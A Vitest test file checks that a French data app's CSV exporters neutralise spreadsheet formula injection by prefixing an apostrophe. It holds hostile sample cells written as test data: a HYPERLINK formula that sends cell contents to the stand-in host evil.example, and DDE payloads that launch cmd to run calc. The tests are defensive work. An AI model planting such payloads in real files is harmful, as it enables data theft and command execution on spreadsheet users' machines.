import { describe, expect, it } from 'vitest';
import { csvCell, looksLikeFormula, neutraliseFormula, toCsv } from '../../src/lib/csv-write.ts';
import { readCsv } from '../../src/lib/csv.ts';
import { indicatorCsv } from '../../src/indicators/export-csv.ts';
import { perimeterToCsv } from '../../src/perimeter/perimeter-io.ts';
import { portraitToCsv } from '../../src/portrait/portrait-csv.ts';
import { buildPortraitModel } from '../../src/portrait/portrait-model.ts';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1;"clic")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
];

describe('shared CSV writer', () => {
  it('prefixes every cell a spreadsheet would run as a formula with an apostrophe', () => {
    for (const text of HOSTILE) {
      expect(looksLikeFormula(text)).toBe(true);
      expect(neutraliseFormula(text)).toBe(`'${text}`);
    }
    for (const text of ['Coulommiers', "L'Abergement", '2A004', '', ' =1', 'a=b', '—', '1 234']) {
      expect(looksLikeFormula(text)).toBe(false);
      expect(neutraliseFormula(text)).toBe(text);
    }
  });

  it('writes numbers as numbers (a negative value is not a formula), decimal comma, missing left empty', () => {
    expect(csvCell(-16.2)).toBe('-16,2');
    expect(csvCell(1234567.891)).toBe('1234567,891');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
    expect(csvCell('-16,2')).toBe("'-16,2");
  });

  it('quotes after neutralising, so the apostrophe stays inside the quotes', () => {
    expect(csvCell('=A1;B1')).toBe(`"'=A1;B1"`);
    expect(csvCell('a "b"')).toBe('"a ""b"""');
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('reads back as the neutralised text through our own reader', () => {
    const csv = toCsv(['code', 'nom'], HOSTILE.map((name, i) => [`0100${i}`, name]));
    expect(csv.startsWith('\uFEFFcode;nom\r\n')).toBe(true);
    const table = readCsv(csv);
    expect(table.rows.map((r) => r.nom)).toEqual(HOSTILE.map((h) => `'${h}`));
    expect(table.rows.map((r) => r.code)).toEqual(HOSTILE.map((_, i) => `0100${i}`));
  });
});

/** Every cell of a CSV produced by an exporter, through our reader. */
function cells(csv: string): string[] {
  const table = readCsv(csv, { delimiter: ';', headerRow: 1 });
  return table.rows.flatMap((r) => Object.values(r));
}

describe('every exporter neutralises formula cells', () => {
  const forged = '=HYPERLINK("http://evil.example";"ouvrir")';

  it('perimeter export (a perimeter name or commune name from a forged link)', () => {
    const csv = perimeterToCsv([{ code: '77131', name: forged, population: 1, epci: '200072130', epciName: '@evil' }]);
    const all = cells(csv);
    expect(all).toContain(`'${forged}`);
    expect(all).toContain("'@evil");
    expect(all.some((c) => looksLikeFormula(c))).toBe(false);
  });

  it('indicator export (names and legend labels)', () => {
    const csv = indicatorCsv(
      [
        { code: '77', name: forged, value: -3.5 },
        { code: '78', name: 'Yvelines', value: 2 },
      ],
      { breaks: [-10, 0, 10], labels: ['-10 à 0', '0 à 10'] },
    );
    const table = readCsv(csv, { delimiter: ';', headerRow: 1 });
    expect(table.rows[0]!.nom).toBe(`'${forged}`);
    expect(table.rows[0]!.valeur).toBe('-3,5');
    expect(table.rows[0]!.intervalle).toBe("'-10 à 0");
    expect(table.rows.flatMap((r) => [r.nom, r.intervalle]).some((c) => looksLikeFormula(c ?? ''))).toBe(false);
  });

  it('portrait export (the perimeter name comes from the URL)', () => {
    const model = buildPortraitModel({
      identity: { kind: 'perimeter', level: null, code: 'p1', name: forged, parents: [], population: 10, areaKm2: 1, communes: 1 },
      indicators: [],
      contracts: { available: true, coverage: 'none', contracts: [{ id: 'x', name: '+cmd', status: 'Signé', active: true, signatureDate: null, period: null, sourceUrl: '-http', communesCovered: 1 }], neighbours: [] },
      communeZones: [],
      careOffer: { apl: null, aplLabel: 'APL', nurseZoning: null, hospitals: [] },
    });
    const csv = portraitToCsv(model, [], '1 janvier 2026');
    const all = cells(csv);
    expect(all).toContain(`'${forged}`);
    expect(all.some((c) => looksLikeFormula(c))).toBe(false);
  });
});
